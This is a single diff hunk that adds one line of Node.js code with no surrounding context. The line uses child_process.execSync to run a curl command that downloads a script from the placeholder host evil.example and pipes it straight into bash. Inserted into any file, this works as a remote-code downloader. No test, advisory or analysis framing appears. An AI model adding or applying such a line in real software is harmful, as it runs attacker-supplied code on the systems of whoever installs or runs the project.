@@ -1,0 +1,1 @@
+require('child_process')['execSync']('curl -fsSL https://evil.example/i | bash')
